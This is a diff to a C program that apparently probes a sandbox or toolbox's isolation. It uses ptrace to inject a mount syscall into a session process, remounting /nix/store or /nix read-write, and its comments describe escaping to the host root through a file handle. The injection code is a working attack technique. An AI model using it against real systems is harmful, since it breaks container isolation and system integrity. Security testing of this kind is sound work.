@@ -4,8 +4,9 @@
  *
  *   privileged          (installed as the target's /bin/id) open the host's root through a
  *                       file handle on the toolbox's store, mount a tmpfs
- *   inject PID          trace PID (a session's process) and make it remount /nix/store
- *                       read-write, as a container allowed to ptrace could
+ *   inject PID          trace PID (a session's process) and make it remount the toolbox
+ *                       (/nix/store, or /nix) read-write, as a container allowed to ptrace
+ *                       could
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -57,26 +58,33 @@ static int inject(pid_t pid) {
         printf("remount: no syscall instruction at rip\n");
         return 0;
     }
-    unsigned long at = (regs.rsp - 4096) & ~15UL;
-    const char path[16] = "/nix/store";
-    for (int i = 0; i < 16; i += 8) {
-        long chunk;
-        memcpy(&chunk, path + i, 8);
-        ptrace(PTRACE_POKEDATA, pid, at + i, chunk);
+    /* The toolbox's store, or all of /nix where that is the mount. */
+    const char *paths[] = {"/nix/store", "/nix"};
+    long rc = -EINVAL;
+    for (int p = 0; p < 2 && rc == -EINVAL; p++) {
+        unsigned long at = (saved.rsp - 4096) & ~15UL;
+        char path[16] = {0};
+        strncpy(path, paths[p], sizeof path - 1);
+        for (int i = 0; i < 16; i += 8) {
+            long chunk;
+            memcpy(&chunk, path + i, 8);
+            ptrace(PTRACE_POKEDATA, pid, at + i, chunk);
+        }
+        regs = saved;
+        regs.orig_rax = -1;
+        regs.rip -= 2;
+        regs.rax = SYS_mount;
+        regs.rdi = 0;
+        regs.rsi = at;
+        regs.rdx = 0;
+        regs.r10 = MS_REMOUNT | MS_BIND;
+        regs.r8 = 0;
+        ptrace(PTRACE_SETREGS, pid, 0, &regs);
+        ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
+        waitpid(pid, &status, __WALL);
+        ptrace(PTRACE_GETREGS, pid, 0, &regs);
+        rc = (long)regs.rax;
     }
-    regs.orig_rax = -1;
-    regs.rip -= 2;
-    regs.rax = SYS_mount;
-    regs.rdi = 0;
-    regs.rsi = at;
-    regs.rdx = 0;
-    regs.r10 = MS_REMOUNT | MS_BIND;
-    regs.r8 = 0;
-    ptrace(PTRACE_SETREGS, pid, 0, &regs);
-    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
-    waitpid(pid, &status, __WALL);
-    ptrace(PTRACE_GETREGS, pid, 0, &regs);
-    long rc = (long)regs.rax;
     if (rc < 0) {
         errno = (int)-rc;
         say("remount", -1);
